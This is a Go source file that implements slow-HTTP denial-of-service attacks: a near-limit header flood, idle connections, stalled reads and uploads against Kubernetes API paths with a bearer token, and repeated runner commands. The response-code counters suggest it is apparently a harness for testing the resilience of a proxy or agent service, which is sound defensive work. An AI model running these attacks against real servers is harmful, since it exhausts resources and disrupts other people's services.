package attack

import (
	"bufio"
	"context"
	"fmt"
	"net/http"
	"time"
)

// HeaderFlood sends 1 MB of short headers, which is less than net/http's limit. It ends them if finish is set, and
// else waits until the server gives up.
func HeaderFlood(t Target, finish bool) Attack {
	headers := shortHeaders(1_000_000)
	if finish {
		headers = append(headers, "\r\n"...)
	}
	return func(ctx context.Context, c *Counts) bool {
		if conn := t.connect(ctx, c, 0); conn != nil {
			_, err := fmt.Fprintf(conn, "GET /health HTTP/1.1\r\nHost: %s\r\n", t.Host)
			if err == nil {
				_, _ = conn.Write(headers) // if it fails, the server's answer may have arrived already
			}
			conn.await("GET")
		}
		return false
	}
}

// IdleConnection requests /health once and then sends nothing more.
func IdleConnection(t Target) Attack {
	return func(ctx context.Context, c *Counts) bool {
		conn := t.connect(ctx, c, 0)
		if conn == nil {
			return false
		}
		if _, err := fmt.Fprintf(conn, "GET /health HTTP/1.1\r\nHost: %s\r\n\r\n", t.Host); err == nil {
			if resp, err := http.ReadResponse(bufio.NewReaderSize(conn, 512), nil); err == nil {
				c.answer(resp.StatusCode)
				_ = resp.Body.Close()
				_, _ = conn.Read(make([]byte, 1)) // until the server closes it
			}
		}
		conn.end(true)
		return false
	}
}

// StalledRead requests a path of the Kubernetes API and reads only the headers of the answer. Its receive buffer is
// small, so that the rest stays on the server's side. Behind frps an attacker cannot see whether the agent has closed
// the connection, so it starts again after a minute.
func StalledRead(t Target, path string) Attack {
	return func(ctx context.Context, c *Counts) bool {
		conn := t.connect(ctx, c, 4<<10)
		if conn == nil {
			return false
		}
		_, _ = fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n", t.Prefix+path,
			t.Host, t.Token)
		resp, err := http.ReadResponse(bufio.NewReaderSize(conn, 512), nil)
		if err != nil {
			conn.end(true)
			return false
		}
		defer func() { _ = resp.Body.Close() }() // reads to the end of the body or of the connection, whichever is first
		c.answer(resp.StatusCode)
		if resp.StatusCode != http.StatusOK {
			conn.end(false)
			return false
		}
		tick := time.NewTicker(time.Second)
		defer tick.Stop()
		cut := false
		for n := 0; n < 60 && !cut && ctx.Err() == nil; n++ {
			select {
			case <-ctx.Done():
			case <-tick.C:
				cut = !conn.established()
			}
		}
		conn.end(cut)
		return !cut
	}
}

// StalledUpload sends an object to a path of the Kubernetes API, except for its last byte.
func StalledUpload(t Target, path string, size int) Attack {
	body := make([]byte, size-1)
	return func(ctx context.Context, c *Counts) bool {
		if conn := t.connect(ctx, c, 0); conn != nil {
			_, err := fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"+
				"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n",
				t.Prefix+path, t.Host, t.Token, size)
			if err == nil {
				_, _ = conn.Write(body)
			}
			conn.await("POST")
		}
		return false
	}
}

// Command sends a command to a runner.
func Command(t Target, runner string) Attack {
	return func(ctx context.Context, c *Counts) bool {
		if conn := t.connect(ctx, c, 0); conn != nil {
			_, _ = fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Length: 2\r\n\r\n{}",
				commandPath(runner), t.Host, t.Token)
			conn.await("POST")
		}
		return false
	}
}

func commandPath(runner string) string { return "/api/runners/" + runner + "/command" }

// await reads the answer to its end, and closes the connection.
func (c *connection) await(method string) {
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: method})
	if err == nil {
		c.count.answer(resp.StatusCode)
		_ = resp.Body.Close() // reads to the end of the body
	}
	c.end(err != nil)
}
